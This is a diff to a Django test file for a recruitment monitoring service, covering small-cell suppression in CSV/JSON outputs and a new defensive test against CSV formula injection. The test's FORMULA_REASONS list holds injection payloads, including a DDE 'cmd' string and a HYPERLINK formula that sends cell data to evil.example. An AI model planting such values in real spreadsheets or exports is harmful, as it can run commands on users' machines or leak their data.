@@ -1,12 +1,16 @@
 """Who gets in, what bad input gets back, and that no output shows a small cell or a person."""
 
+import csv
 import datetime as dt
+import io
 import json
 
 import pytest
 from django.urls import reverse
+from django.utils import timezone
 
 from monitoring import services
+from recruitment import services as services_case
 from recruitment.models import Candidate, Role
 from tests import factories
 
@@ -97,16 +101,16 @@ def test_small_cells_are_suppressed_in_ui_csv_and_json(client, analyst, snapshot
     lapland = county_name("lappi")
     lapland_row = html.split(f'<th scope="row">{lapland}', 1)[1].split("</tr>", 1)[0]
     assert ">1<" not in lapland_row and ">x</abbr>" in lapland_row
-    csv = client.get(f"/monitoring/tables/stock_by_county.csv?{query}").content.decode()
-    lapland_csv = next(line for line in csv.splitlines() if line.startswith(lapland))
-    assert lapland_csv.split(",")[1] == "x"
-    assert ",1," not in lapland_csv
+    csv_text = client.get(f"/monitoring/tables/stock_by_county.csv?{query}").content.decode()
+    csv_rows = list(csv.reader(io.StringIO(csv_text)))[1:]
+    lapland_csv = next(row for row in csv_rows if row[0] == lapland)
+    assert lapland_csv[1] == "x"
+    assert "1" not in lapland_csv
     data = client.get(f"/api/v1/monitoring/stock_by_county/?{query}").json()
     lapland_json = next(r for r in data["table"]["rows"] if r["county"] == lapland)
     assert lapland_json["in_pipeline"] is None and lapland_json["total"] is None
     # The same cells are hidden in all three.
     hidden_json = {(s["row"], s["column"]) for s in data["table"]["suppressed"]}
-    csv_rows = [line.split(",") for line in csv.splitlines()[1:]]
     columns = [c["key"] for c in data["table"]["columns"]]
     hidden_csv = {
         (i, columns[j]) for i, row in enumerate(csv_rows) for j, v in enumerate(row) if v == "x"
@@ -143,3 +147,39 @@ def test_dashboard_query_count_does_not_grow_with_cases(
     client.force_login(analyst)
     with django_assert_max_num_queries(80):
         assert client.get(f"{DASHBOARD}?{_period(snapshots)}").status_code == 200
+
+
+FORMULA_REASONS = [
+    "+1+cmd|' /C calc'!A0",
+    '=HYPERLINK("https://evil.example/?x="&A1;"Details")',
+    "-1+1|cmd",
+    "@SUM(1+1)",
+]
+
+
+def test_free_text_in_a_csv_export_never_starts_a_formula(client, analyst, recruiter_actor):
+    """Issue 10: withdrawal reasons reach the ministry's dropout_reasons.csv as text."""
+    for reason in FORMULA_REASONS:
+        for _ in range(5):  # five cases: a reason written for fewer is folded into "Other"
+            case = factories.open_case(actor=recruiter_actor)
+            services_case.transition_case(
+                case=case,
+                name="withdraw",
+                actor=recruiter_actor,
+                expected_version=case.version,
+                reason=reason,
+            )
+    today = timezone.localdate()
+    services.take_snapshots(since=today - dt.timedelta(days=1))
+    client.force_login(analyst)
+    response = client.get(
+        reverse("monitoring:table_csv", args=["dropout_reasons"])
+        + f"?start={today - dt.timedelta(days=1)}&end={today}"
+    )
+    assert response.status_code == 200
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    reasons = {row[2] for row in rows[1:]}
+    assert {"'" + reason for reason in FORMULA_REASONS} <= reasons
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+    total = rows[-1]
+    assert total[-1] == str(5 * len(FORMULA_REASONS))  # the count is still a plain number
